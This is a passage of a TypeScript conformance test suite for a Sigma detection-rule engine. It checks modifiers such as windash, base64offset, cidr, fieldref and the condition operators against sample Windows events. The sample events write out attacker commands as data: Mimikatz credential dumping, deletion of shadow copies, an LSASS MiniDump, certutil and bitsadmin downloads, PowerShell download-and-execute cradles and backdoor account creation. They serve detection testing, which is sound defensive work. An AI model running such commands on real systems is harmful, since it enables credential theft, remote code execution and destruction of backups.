    miss: [processCreation({ Image: raw`C:\Windows\PerfLogs\a.exe` })],
  });

  conformance("endswith: the value at the end of the field", {
    rule: raw`
      title: Mimikatz binary name
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image|endswith: '\mimikatz.exe'
        condition: selection
    `,
    match: [processCreation({ Image: raw`C:\Users\Public\MIMIKATZ.EXE` })],
    miss: [
      processCreation({ Image: raw`C:\Users\Public\mimikatz.exe.txt` }),
      processCreation({ Image: raw`C:\Users\Public\notmimikatz.exe` }),
    ],
  });

  conformance("contains|all: every value in the field (AND)", {
    rule: raw`
      title: Shadow copies deleted
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains|all:
            - 'vssadmin'
            - 'delete'
            - 'shadows'
        condition: selection
    `,
    match: [processCreation({ CommandLine: "vssadmin.exe Delete Shadows /All /Quiet" })],
    miss: [processCreation({ CommandLine: "vssadmin.exe list shadows" })],
  });

  conformance("contains, startswith, endswith keep the value's own wildcards", {
    rule: raw`
      title: comsvcs MiniDump, any text between
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains: 'comsvcs.dll*MiniDump ??? '
        condition: selection
    `,
    match: [
      processCreation({ CommandLine: raw`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 o.dmp full` }),
    ],
    miss: [
      processCreation({ CommandLine: raw`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 62 o.dmp full` }),
      processCreation({ CommandLine: raw`rundll32.exe MiniDump 624 C:\Windows\System32\comsvcs.dll` }),
    ],
  });

  conformance("cased: case-sensitive, with contains", {
    rule: raw`
      title: Invoke-Mimikatz as published
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains|cased: 'Invoke-Mimikatz'
        condition: selection
    `,
    match: [processCreation({ CommandLine: "powershell.exe -c Invoke-Mimikatz -DumpCreds" })],
    miss: [processCreation({ CommandLine: "powershell.exe -c invoke-mimikatz -dumpcreds" })],
  });

  conformance("cased: case-sensitive on a whole value", {
    rule: raw`
      title: PsExec original file name
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          OriginalFileName|cased: 'psexec.c'
        condition: selection
    `,
    match: [processCreation({ OriginalFileName: "psexec.c" })],
    miss: [processCreation({ OriginalFileName: "PSEXEC.C" }), processCreation({ OriginalFileName: "psexec.c2" })],
  });

  conformance("neq: the field differs from every value", {
    rule: raw`
      title: Service child process not run by a service account
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          ParentImage|endswith: '\services.exe'
          User|neq:
            - 'NT AUTHORITY\SYSTEM'
            - 'NT AUTHORITY\LOCAL SERVICE'
            - 'NT AUTHORITY\NETWORK SERVICE'
        condition: selection
    `,
    match: [processCreation({ ParentImage: raw`C:\Windows\System32\services.exe`, User: raw`CORP\svc_sql` })],
    miss: [
      processCreation({ ParentImage: raw`C:\Windows\System32\services.exe`, User: raw`nt authority\system` }),
      processCreation({ ParentImage: raw`C:\Windows\System32\services.exe`, User: raw`NT AUTHORITY\NETWORK SERVICE` }),
    ],
  });

  conformance("neq on a number (M §Numeric)", {
    rule: raw`
      title: Administrator logon other than over the network
      logsource: { product: windows, service: security }
      detection:
        selection:
          EventID: 4624
          TargetUserName: 'Administrator'
          LogonType|neq: 3
        condition: selection
    `,
    match: [
      securityEvent(4624, { TargetUserName: "Administrator", LogonType: 10 }),
      securityEvent(4624, { TargetUserName: "Administrator", LogonType: "2" }),
    ],
    miss: [
      securityEvent(4624, { TargetUserName: "Administrator", LogonType: 3 }),
      securityEvent(4624, { TargetUserName: "Administrator", LogonType: "3" }),
    ],
  });
});

// ---- M §String Modifiers ----

const DASHES = ["-", "/", "\u2013", "\u2014", "\u2015"];

describe("M §String Modifiers: windash, re with i, m, s", () => {
  conformance("contains|windash: -, /, en dash, em dash and horizontal bar are interchangeable", {
    rule: raw`
      title: PowerShell encoded command
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains|windash: ' -encodedcommand '
        condition: selection
    `,
    match: DASHES.map((d) => processCreation({ CommandLine: `powershell.exe ${d}EncodedCommand SQBFAFgA` })),
    miss: [
      processCreation({ CommandLine: "powershell.exe +EncodedCommand SQBFAFgA" }),
      processCreation({ CommandLine: "powershell.exe EncodedCommand SQBFAFgA" }),
    ],
  });

  conformance("windash|contains: every dash of the value varies on its own (all permutations)", {
    rule: raw`
      title: certutil download
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|windash|contains: ' -urlcache -split -f '
        condition: selection
    `,
    match: [
      processCreation({ CommandLine: "certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe" }),
      processCreation({ CommandLine: "certutil.exe /urlcache /split /f http://10.0.0.5/a.exe a.exe" }),
      processCreation({ CommandLine: "certutil.exe -urlcache /split \u2013f http://10.0.0.5/a.exe a.exe" }),
    ],
    miss: [processCreation({ CommandLine: "certutil.exe -urlcache -f http://10.0.0.5/a.exe a.exe" })],
  });

  conformance("windash: a / written in the rule varies too", {
    rule: raw`
      title: BITS transfer
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|windash|contains: ' /transfer '
        condition: selection
    `,
    match: [
      processCreation({ CommandLine: "bitsadmin.exe -transfer job /download /priority high http://10.0.0.5/a.exe" }),
      processCreation({ CommandLine: "bitsadmin.exe /transfer job http://10.0.0.5/a.exe C:\\Users\\Public\\a.exe" }),
    ],
    miss: [processCreation({ CommandLine: "bitsadmin.exe transfer job http://10.0.0.5/a.exe" })],
  });

  conformance("contains|all|windash: every value, each with its dash variants", {
    rule: raw`
      title: Hidden PowerShell without profile
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains|all|windash:
            - ' -nop '
            - ' -w hidden '
        condition: selection
    `,
    match: [processCreation({ CommandLine: "powershell.exe /nop \u2014w hidden -c IEX $x" })],
    miss: [processCreation({ CommandLine: "powershell.exe -nop -c IEX $x" })],
  });

  conformance("re: a regular expression, case-sensitive, found anywhere in the value", {
    rule: raw`
      title: Local user created
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|re: 'net1? user [^ ]+ [^ ]+ /add'
        condition: selection
    `,
    match: [
      processCreation({ CommandLine: "net user backdoor P@ssw0rd! /add" }),
      processCreation({ CommandLine: raw`C:\Windows\system32\net1 user backdoor P@ss /add /domain` }),
    ],
    miss: [
      processCreation({ CommandLine: "NET USER backdoor P@ssw0rd! /ADD" }),
      processCreation({ CommandLine: "net user backdoor" }),
    ],
  });

  conformance("re: the value is the expression as written (backslashes and * are regex syntax)", {
    rule: raw`
      title: Executable directly in the Windows Temp folder
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image|re: '\\Windows\\Temp\\[^\\]*[.]exe$'
        condition: selection
    `,
    match: [
      processCreation({ Image: raw`C:\Windows\Temp\a.exe` }),
      processCreation({ Image: raw`C:\Windows\Temp\.exe` }),
    ],
    miss: [
      processCreation({ Image: raw`C:\Windows\Temp\sub\a.exe` }),
      processCreation({ Image: raw`C:\windows\temp\a.exe` }),
      processCreation({ Image: raw`C:\Windows\Temp\a.exe.config` }),
    ],
  });

  conformance("re|i: case-insensitive", {
    rule: raw`
      title: Local user created, any case
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|re|i: 'net1? user [^ ]+ [^ ]+ /add'
        condition: selection
    `,
    match: [processCreation({ CommandLine: "NET USER backdoor P@ssw0rd! /ADD" })],
    miss: [processCreation({ CommandLine: "NET GROUP backdoor P@ssw0rd! /ADD" })],
  });

  const multiLine = "$wc = New-Object Net.WebClient\nIEX $wc.DownloadString('http://10.0.0.5/a.ps1')";

  conformance("re without m: ^ is the start of the whole value", {
    rule: raw`
      title: Script block starting with IEX
      logsource: { product: windows, category: ps_script }
      detection:
        selection:
          ScriptBlockText|re: '^IEX '
        condition: selection
    `,
    match: [scriptBlock("IEX $wc.DownloadString('http://10.0.0.5/a.ps1')")],
    miss: [scriptBlock(multiLine)],
  });

  conformance("re|m: ^ and $ match at line starts and ends", {
    rule: raw`
      title: Script block with a line starting with IEX
      logsource: { product: windows, category: ps_script }
      detection:
        selection:
          ScriptBlockText|re|m: '^IEX .+[)]$'
        condition: selection
    `,
    match: [scriptBlock(multiLine)],
    miss: [scriptBlock("$wc = New-Object Net.WebClient; IEX $wc.DownloadString('http://10.0.0.5/a.ps1')")],
  });

  conformance("re without s: . does not match a newline", {
    rule: raw`
      title: WebClient download on one line
      logsource: { product: windows, category: ps_script }
      detection:
        selection:
          ScriptBlockText|re: 'Net[.]WebClient.+DownloadString'
        condition: selection
    `,
    match: [scriptBlock("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')")],
    miss: [scriptBlock(multiLine)],
  });

  conformance("re|s: . matches a newline too", {
    rule: raw`
      title: WebClient download across lines
      logsource: { product: windows, category: ps_script }
      detection:
        selection:
          ScriptBlockText|re|s: 'Net[.]WebClient.+DownloadString'
        condition: selection
    `,
    match: [scriptBlock(multiLine)],
    miss: [scriptBlock("$wc = New-Object Net.WebClient\n$wc.UploadString('http://10.0.0.5/', $d)")],
  });

  conformance("re|i|m|s: the three sub-modifiers together", {
    rule: raw`
      title: IEX at a line start, then a download
      logsource: { product: windows, category: ps_script }
      detection:
        selection:
          ScriptBlockText|re|i|m|s: '^iex.+downloadstring'
        condition: selection
    `,
    match: [scriptBlock("$u = 'http://10.0.0.5/a.ps1'\nIex (New-Object Net.WebClient).\n  DownloadString($u)")],
    miss: [
      scriptBlock("$d = (New-Object Net.WebClient).DownloadString($u)\nIEX $d"),
      scriptBlock("$u = 'http://10.0.0.5/a.ps1'\n  iex (New-Object Net.WebClient).DownloadString($u)"),
    ],
  });
});

// ---- M §Encoding ----

describe("M §Encoding: base64, base64offset, utf16le, utf16be, utf16, wide", () => {
  const decodeAndRun = (encoded: string): string =>
    `powershell.exe -c "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${encoded}')))"`;

  conformance("base64|contains: the value's Base64 at an aligned position", {
    rule: raw`
      title: Base64-encoded Invoke-Mimikatz
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|base64|contains: 'Invoke-Mimikatz'
        condition: selection
    `,
    match: [processCreation({ CommandLine: decodeAndRun(b64("Invoke-Mimikatz -DumpCreds")) })],
    miss: [
      processCreation({ CommandLine: "powershell.exe -c Invoke-Mimikatz -DumpCreds" }),
      // Two bytes before the value shift its Base64: base64offset would find it, base64 does not.
      processCreation({ CommandLine: decodeAndRun(b64("; Invoke-Mimikatz -DumpCreds")) }),
    ],
  });

  // The text before `DownloadString(` is 30, 31 and 32 bytes long: offsets 0, 1 and 2 modulo 3.
  const downloads = ["IEX(", "IEX (", "IEX  ("].map(
    (p) => `${p}New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')`,
  );
  const upload = "IEX (New-Object Net.WebClient).UploadString('http://10.0.0.5/', $d)";

  conformance("base64offset|contains: the value at any of the three byte offsets", {
    rule: raw`
      title: Base64-encoded WebClient download
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|base64offset|contains: 'DownloadString('
        condition: selection
    `,
    match: downloads.map((text) => processCreation({ CommandLine: decodeAndRun(b64(text)) })),
    miss: [
      processCreation({ CommandLine: decodeAndRun(b64(upload)) }),
      processCreation({ CommandLine: `powershell.exe -c "${downloads[0]}"` }),
    ],
  });

  // No near miss in the other byte order: UTF-16LE text holds the UTF-16BE bytes of its own substrings one byte
  // further on (`x\0D\0o\0…` holds `\0D\0o…`), so base64offset rightly finds either in the other.
  // `-EncodedCommand` takes UTF-16LE: a character is two bytes, so one and two leading spaces shift the offset too.
  const encodedCommand = (base64: string): FieldView =>
    processCreation({
      Image: raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
      CommandLine: `powershell.exe -NoP -W Hidden -enc ${base64}`,
    });
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')";
  const shifted = ["", " ", "  "].map((p) => p + script);

  for (const encoding of ["utf16le", "wide"]) {
    conformance(`${encoding}|base64offset|contains: UTF-16LE, then Base64 at any offset (PowerShell -enc)`, {
      rule: raw`
        title: Encoded command downloading a script
        logsource: { product: windows, category: process_creation }
        detection:
          selection:
            CommandLine|${encoding}|base64offset|contains: 'DownloadString'
          condition: selection
      `,
      match: shifted.map((text) => encodedCommand(b64utf16le(text))),
      miss: [encodedCommand(b64(script)), encodedCommand(b64utf16le(upload))],
    });
  }

  conformance("utf16be|base64offset|contains: UTF-16BE, then Base64 at any offset", {
    rule: raw`
      title: Big-endian encoded download
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|utf16be|base64offset|contains: 'DownloadString'
        condition: selection
    `,
    match: shifted.map((text) => encodedCommand(b64utf16be(text))),
    miss: [encodedCommand(b64(script)), encodedCommand(b64utf16be(upload))],
  });

  conformance("utf16|base64|contains: byte order mark FF FE, UTF-16LE, then Base64", {
    rule: raw`
      title: Encoded text with a byte order mark
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|utf16|base64|contains: 'IEX (New'
        condition: selection
    `,
    match: [
      encodedCommand(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(script, "utf16le")]).toString("base64")),
    ],
    miss: [encodedCommand(b64utf16le(script))],
  });

  conformance("utf16le|base64|contains: UTF-16LE, then Base64 at an aligned position", {
    rule: raw`
      title: Encoded whoami
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|utf16le|base64|contains: 'whoami'
        condition: selection
    `,
    match: [encodedCommand(b64utf16le("whoami /all"))],
    miss: [encodedCommand(b64utf16le(" whoami /all")), encodedCommand(b64("whoami /all"))],
  });
});

// ---- M §Numeric Modifiers ----

describe("M §Numeric Modifiers: lt, lte, gt, gte on integers and decimals", () => {
  conformance("gt: greater than (integer), numbers and numeric text", {
    rule: raw`
      title: Connection to a dynamic port
      logsource: { product: windows, category: network_connection }
      detection:
        selection:
          DestinationPort|gt: 49151
        condition: selection
    `,
    match: [networkConnection({ DestinationPort: 49152 }), networkConnection({ DestinationPort: "65000" })],
    miss: [networkConnection({ DestinationPort: 49151 }), networkConnection({ DestinationPort: 443 })],
  });

  conformance("gte: greater or equal (integer)", {
    rule: raw`
      title: Connection to a dynamic port
      logsource: { product: windows, category: network_connection }
      detection:
        selection:
          DestinationPort|gte: 49152
        condition: selection
    `,
    match: [networkConnection({ DestinationPort: 49152 }), networkConnection({ DestinationPort: 50000 })],
    miss: [networkConnection({ DestinationPort: 49151 }), networkConnection({ DestinationPort: "n/a" })],
  });

  conformance("lt: less than (integer)", {
    rule: raw`
      title: Connection to a well-known port
      logsource: { product: windows, category: network_connection }
      detection:
        selection:
          DestinationPort|lt: 1024
        condition: selection
    `,
    match: [networkConnection({ DestinationPort: 445 }), networkConnection({ DestinationPort: "1023" })],
    miss: [networkConnection({ DestinationPort: 1024 }), networkConnection({ DestinationPort: 8080 })],
  });

  conformance("lte: less or equal (integer)", {
    rule: raw`
      title: Connection to a well-known port
      logsource: { product: windows, category: network_connection }
      detection:
        selection:
          DestinationPort|lte: 1023
        condition: selection
    `,
    match: [networkConnection({ DestinationPort: 1023 }), networkConnection({ DestinationPort: 22 })],
    miss: [networkConnection({ DestinationPort: 1024 })],
  });

  const appEvent = (duration: FieldValue): FieldView =>
    windowsEvent(
      { channel: "Application", provider: "Contoso-Backup", eventId: 2001 },
      { Job: "nightly", DurationHours: duration },
      {},
    );

  conformance("gt and lte with decimal values", {
    rule: raw`
      title: Backup job outside its usual duration
      logsource: { product: windows, service: application }
      detection:
        too_long:
          DurationHours|gt: 2.5
        too_short:
          DurationHours|lte: 0.25
        condition: too_long or too_short
    `,
    match: [appEvent(2.75), appEvent("3"), appEvent(0.25), appEvent("0.1")],
    miss: [appEvent(2.5), appEvent("2.49"), appEvent(0.26), appEvent("unknown")],
  });

  conformance("gte and lt: decimal field against integer and decimal values", {
    rule: raw`
      title: Backup job between one and a half and two hours
      logsource: { product: windows, service: application }
      detection:
        selection:
          DurationHours|gte: 1.5
        upper:
          DurationHours|lt: 2
        condition: selection and upper
    `,
    match: [appEvent(1.5), appEvent("1.99")],
    miss: [appEvent(1.49), appEvent(2), appEvent("2.0")],
  });
});

// ---- M §Time Modifiers ----

describe("M §Time Modifiers: minute, hour, day, week, month, year", () => {
  // Sysmon's UtcTime, as it writes it. 2025-06-18 is a Wednesday of week 25.
  const at = (utcTime: string): FieldView => processCreation({ UtcTime: utcTime });
  const cases: [string, number, string, string][] = [
    ["minute", 13, "2025-06-18 03:13:44.517", "2025-06-18 03:14:44.517"],
    ["hour", 3, "2025-06-18 03:13:44.517", "2025-06-18 13:13:44.517"],
    ["day", 18, "2025-06-18 03:13:44.517", "2025-06-08 03:13:44.517"],
    ["week", 25, "2025-06-18 03:13:44.517", "2025-06-25 03:13:44.517"],
    ["month", 6, "2025-06-18 03:13:44.517", "2025-07-18 03:13:44.517"],
    ["year", 2025, "2025-06-18 03:13:44.517", "2024-06-18 03:13:44.517"],
  ];
  for (const [part, value, hit, near] of cases) {
    conformance(`${part}: the ${part} of a timestamp`, {
      rule: raw`
        title: Process started at a given ${part}
        logsource: { product: windows, category: process_creation }
        detection:
          selection:
            UtcTime|${part}: ${value}
          condition: selection
      `,
      match: [at(hit)],
      miss: [at(near), processCreation({ UtcTime: "not a time" })],
    });
  }

  conformance("year on the System time (TimeCreated, ISO 8601 with Z)", {
    rule: raw`
      title: Process created in 2024
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          TimeCreated|year: 2024
        condition: selection
    `,
    match: [processCreation({ "System.TimeCreated.SystemTime": "2024-12-31T23:59:59.999999Z" })],
    miss: [processCreation({ "System.TimeCreated.SystemTime": "2025-01-01T00:00:00.000000Z" })],
  });
});

// ---- M §IP Modifiers ----

describe("M §IP Modifiers: cidr", () => {
  conformance("cidr: IPv4 networks", {
    rule: raw`
      title: SMB to a private address
      logsource: { product: windows, category: network_connection }
      detection:
        selection:
          DestinationPort: 445
          DestinationIp|cidr:
            - '10.0.0.0/8'
            - '172.16.0.0/12'
            - '192.168.0.0/16'
        condition: selection
    `,
    match: [
      networkConnection({ DestinationPort: 445, DestinationIp: "172.20.1.5" }),
      networkConnection({ DestinationPort: 445, DestinationIp: "10.0.0.5" }),
      networkConnection({ DestinationPort: 445, DestinationIp: "192.168.255.255" }),
    ],
    miss: [
      networkConnection({ DestinationPort: 445, DestinationIp: "172.32.0.1" }),
      networkConnection({ DestinationPort: 445, DestinationIp: "11.0.0.1" }),
      networkConnection({ DestinationPort: 139, DestinationIp: "10.0.0.5" }),
    ],
  });

  conformance("cidr: IPv6 networks", {
    rule: raw`
      title: Connection to a link-local or unique local IPv6 address
      logsource: { product: windows, category: network_connection }
      detection:
        selection:
          DestinationIp|cidr:
            - 'fe80::/10'
            - 'fc00::/7'
        condition: selection
    `,
    match: [
      networkConnection({ DestinationIsIpv6: true, DestinationIp: "fe80:0:0:0:4d1c:8c0a:1f2b:9d3e" }),
      networkConnection({ DestinationIsIpv6: true, DestinationIp: "fd12:3456:789a::15" }),
    ],
    miss: [
      networkConnection({ DestinationIsIpv6: true, DestinationIp: "2001:db8::15" }),
      networkConnection({ DestinationIsIpv6: true, DestinationIp: "fec0::1" }),
      networkConnection({ DestinationIp: "10.0.0.5" }),
    ],
  });
});

// ---- M §Specific Modifiers, R §Placeholders ----

describe("M §Specific Modifiers, R §Placeholders: expand, fieldref", () => {
  const logon = (user: string, ip: string): FieldView =>
    securityEvent(4624, { TargetUserName: user, TargetDomainName: "CORP", LogonType: 10, IpAddress: ip });

  conformance("expand: a placeholder stands for each value of its list, wildcards included", {
    rule: raw`
      title: Administrator RDP logon from outside the jump servers
      logsource: { product: windows, service: security }
      detection:
        selection:
          EventID: 4624
          LogonType: 10
          TargetUserName|expand: '%Administrators%'
        filter_jump:
          IpAddress|expand: '%JumpServers%'
        condition: selection and not filter_jump
    `,
    placeholders: { Administrators: ["Administrator", "adm_*"], JumpServers: ["10.0.5.10", "10.0.5.11"] },
    match: [logon("adm_jdoe", "10.20.1.15"), logon("ADMINISTRATOR", "10.20.1.16")],
    miss: [logon("adm_jdoe", "10.0.5.11"), logon("jdoe", "10.20.1.15"), logon("Administrator2", "10.20.1.15")],
  });

  const service = (imagePath: string): FieldView =>
    windowsEvent(
      { channel: "System", provider: "Service Control Manager", eventId: 7045 },
      { ServiceName: "5f1a2b3", ImagePath: imagePath, ServiceType: "user mode service", StartType: "demand start" },
      {},
    );

  conformance("without expand, %name% is a literal value", {
    rule: raw`
      title: Service started through COMSPEC
      logsource: { product: windows, service: system }
      detection:
        selection:
          Provider_Name: 'Service Control Manager'
          EventID: 7045
          ImagePath|contains: '%COMSPEC%'
        condition: selection
    `,
    placeholders: { COMSPEC: [raw`C:\Windows\system32\cmd.exe`] },
    match: [service("%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand JABzAD0A")],
    miss: [service(raw`C:\Windows\system32\cmd.exe /b /c start /b /min powershell -nop -w hidden`)],
  });

  conformance("expand: \\% is a plain percent sign (spec: \\%plain%name%)", {
    rule: raw`
      title: Scheduled task running a dropped binary from APPDATA
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|expand|contains: '/tr \%APPDATA%%DroppedBinaries%'
        condition: selection
    `,
    placeholders: { DroppedBinaries: [raw`\update.exe`, raw`\svchost.exe`] },
    match: [
      processCreation({ CommandLine: raw`schtasks /create /sc onlogon /tn Updater /tr %APPDATA%\update.exe /f` }),
    ],
    miss: [
      processCreation({
        CommandLine: raw`schtasks /create /sc onlogon /tn Updater /tr C:\Users\jdoe\AppData\Roaming\update.exe /f`,
      }),
      processCreation({ CommandLine: raw`schtasks /create /sc onlogon /tn Updater /tr %APPDATA%\notepad.exe /f` }),
    ],
  });

  rejected(
    "expand: a placeholder without values rejects the rule (R §Placeholders: reject what cannot be handled)",
    raw`
      title: Logon to a domain controller
      logsource: { product: windows, service: security }
      detection:
        selection:
          EventID: 4624
          WorkstationName|expand: '%DomainControllers%'
        condition: selection
    `,
    /DomainControllers/,
    { Servers: ["SRV01"] },
  );

  conformance("fieldref: equal to another field of the same event, under each source's field names", {
    rule: raw`
      title: Process started by an image of the same path
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image|fieldref: ParentImage
        condition: selection
    `,
    match: [
      processCreation({ Image: raw`C:\Users\Public\svchost.exe`, ParentImage: raw`c:\users\public\SVCHOST.EXE` }),
      processCreation4688({
        NewProcessName: raw`C:\Users\Public\svchost.exe`,
        ParentProcessName: raw`C:\Users\Public\svchost.exe`,
      }),
    ],
    miss: [
      processCreation({ Image: raw`C:\Users\Public\svchost.exe`, ParentImage: raw`C:\Windows\System32\services.exe` }),
      processCreation({ Image: raw`C:\Users\Public\svchost.exe`, ParentImage: undefined }),
      processCreation4688({ NewProcessName: raw`C:\Users\Public\svchost.exe` }),
    ],
  });

  conformance("fieldref|neq: different from another field", {
    rule: raw`
      title: Explicit credentials of another account
      logsource: { product: windows, service: security }
      detection:
        selection:
          EventID: 4648
          TargetUserName|fieldref|neq: SubjectUserName
        condition: selection
    `,
    match: [securityEvent(4648, { SubjectUserName: "jdoe", TargetUserName: "adm_jdoe" })],
    miss: [securityEvent(4648, { SubjectUserName: "jdoe", TargetUserName: "JDOE" })],
  });

  conformance("fieldref|contains: another field's value inside this one", {
    rule: raw`
      title: Command line naming its parent image
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|fieldref|contains: ParentImage
        condition: selection
    `,
    match: [
      processCreation({
        ParentImage: raw`C:\Users\Public\loader.exe`,
        CommandLine: raw`cmd.exe /c copy C:\USERS\PUBLIC\loader.exe C:\Windows\Temp\svc.exe`,
      }),
    ],
    miss: [
      processCreation({
        ParentImage: raw`C:\Users\Public\loader.exe`,
        CommandLine: raw`cmd.exe /c copy C:\Users\Public\other.exe C:\Windows\Temp\svc.exe`,
      }),
    ],
  });

  conformance("fieldref|startswith: this field starts with another field's value", {
    rule: raw`
      title: Command line starting with the unquoted image path
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|fieldref|startswith: Image
        condition: selection
    `,
    match: [
      processCreation({
        Image: raw`C:\Windows\System32\cmd.exe`,
        CommandLine: raw`C:\Windows\System32\cmd.exe /c whoami`,
      }),
    ],
    miss: [
      processCreation({
        Image: raw`C:\Windows\System32\cmd.exe`,
        CommandLine: raw`"C:\Windows\System32\cmd.exe" /c whoami`,
      }),
    ],
  });

  conformance("fieldref|endswith: this field ends with another field's value", {
    rule: raw`
      title: Image named as its original file name
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image|fieldref|endswith: OriginalFileName
        condition: selection
    `,
    match: [processCreation({ Image: raw`C:\Windows\System32\cmd.exe`, OriginalFileName: "Cmd.Exe" })],
    miss: [processCreation({ Image: raw`C:\Users\Public\svc.exe`, OriginalFileName: "Cmd.Exe" })],
  });
});

// ---- R §Condition ----

describe("R §Condition: and, or, not, parentheses, precedence, x of, them, lists", () => {
  /** Selections over a process creation: rundll32, comsvcs, MiniDump, the backup account. */
  const SEARCHES = raw`
        sel_img:
          Image|endswith: '\rundll32.exe'
        sel_comsvcs:
          CommandLine|contains: 'comsvcs'
        sel_minidump:
          CommandLine|contains: 'MiniDump'
        filter_backup:
          User: 'CORP\svc_backup'`;
  const rule = (condition: string): string => raw`
      title: LSASS dump, condition ${condition}
      logsource: { product: windows, category: process_creation }
      detection:${SEARCHES}
        condition: ${condition}
    `;
  /** A process creation where the named searches of SEARCHES hold and the others do not. */
  const holding = (...names: string[]): FieldView => {
    const has = (n: string): boolean => names.includes(n);
    const cli = [has("sel_comsvcs") ? "C:\\Windows\\System32\\comsvcs.dll," : "shell32.dll,"];
    cli.push(has("sel_minidump") ? "MiniDump 624 C:\\Users\\Public\\o.dmp full" : "Control_RunDLL");
    return processCreation({
      Image: has("sel_img") ? raw`C:\Windows\System32\rundll32.exe` : raw`C:\Windows\System32\cmd.exe`,
      CommandLine: `process.exe ${cli.join(" ")}`,
      User: has("filter_backup") ? raw`CORP\svc_backup` : raw`CORP\jdoe`,
    });
  };

  conformance("and: both operands", {
    rule: rule("sel_img and sel_minidump"),
    match: [holding("sel_img", "sel_minidump")],
    miss: [holding("sel_img"), holding("sel_minidump")],
  });

  conformance("or: either operand", {
    rule: rule("sel_comsvcs or sel_minidump"),
    match: [holding("sel_comsvcs"), holding("sel_minidump")],
    miss: [holding("sel_img")],
  });

  conformance("not: negation", {
    rule: rule("sel_img and not filter_backup"),
    match: [holding("sel_img")],
    miss: [holding("sel_img", "filter_backup")],
  });

  conformance("parentheses group against precedence", {
    rule: rule("sel_img and (sel_comsvcs or sel_minidump)"),
    match: [holding("sel_img", "sel_minidump"), holding("sel_img", "sel_comsvcs")],
    // Read as `(sel_img and sel_comsvcs) or sel_minidump`, this would match.
    miss: [holding("sel_minidump"), holding("sel_img")],
  });

  conformance("precedence: and binds tighter than or", {
    rule: rule("sel_img or sel_comsvcs and sel_minidump"),
    // Read as `(sel_img or sel_comsvcs) and sel_minidump`, the first would not match.
    match: [holding("sel_img"), holding("sel_comsvcs", "sel_minidump")],
    miss: [holding("sel_comsvcs"), holding("sel_minidump")],
  });

  conformance("precedence: not binds tighter than and", {
    rule: rule("not filter_backup and sel_img"),
    match: [holding("sel_img")],
    // Read as `not (filter_backup and sel_img)`, the second would match.
    miss: [holding("sel_img", "filter_backup"), holding("filter_backup")],
  });

  conformance("precedence: x of binds tighter than not and and", {
    rule: rule("1 of sel_* and not 1 of filter_*"),
    match: [holding("sel_minidump"), holding("sel_img", "sel_comsvcs")],
    miss: [holding("sel_minidump", "filter_backup"), holding()],
  });

  conformance("1 of pattern: at least one matching identifier (sel_*)", {
    rule: rule("1 of sel_*"),
    match: [holding("sel_img"), holding("sel_comsvcs"), holding("sel_img", "sel_comsvcs", "sel_minidump")],
    miss: [holding("filter_backup"), holding()],
  });

  conformance("all of pattern: every matching identifier", {
    rule: rule("all of sel_*"),
    match: [holding("sel_img", "sel_comsvcs", "sel_minidump")],
    miss: [holding("sel_img", "sel_minidump"), holding("sel_comsvcs", "sel_minidump", "filter_backup")],
  });

  conformance("any of pattern: the same as 1 of (not in R's grammar, accepted as pySigma does)", {
    rule: rule("any of sel_*"),
    match: [holding("sel_minidump")],
    miss: [holding("filter_backup")],
  });

  conformance("wildcard at the start of a pattern (*_x) and in the middle (s*_x)", {
    rule: raw`
      title: PowerShell by image or original name, not from the deployment share
      logsource: { product: windows, category: process_creation }
      detection:
        image_pwsh:
          Image|endswith: '\powershell.exe'
        ofn_pwsh:
          OriginalFileName: 'PowerShell.EXE'
        image_cmd:
          Image|endswith: '\cmd.exe'
        skip_deploy_parent:
          ParentImage|startswith: '\\\\deploy01\'
        skip_deploy_dir:
          CurrentDirectory|startswith: '\\\\deploy01\'
        condition: 1 of *_pwsh and not all of s*_deploy_*
    `,
    match: [
      processCreation({ Image: raw`C:\Users\Public\p.exe`, OriginalFileName: "PowerShell.EXE" }),
      processCreation({
        Image: raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
        ParentImage: raw`\\deploy01\share\setup.exe`,
      }),
    ],
    miss: [
      processCreation({ Image: raw`C:\Windows\System32\cmd.exe` }),
      processCreation({
        Image: raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
        ParentImage: raw`\\deploy01\share\setup.exe`,
        CurrentDirectory: "\\\\deploy01\\share\\",
      }),
    ],
  });

  conformance("x of pattern leaves out identifiers starting with _ too (same as them, restricted to the pattern)", {
    rule: raw`
      title: PowerShell by image, a helper kept for downstream filters
      logsource: { product: windows, category: process_creation }
      detection:
        image_pwsh:
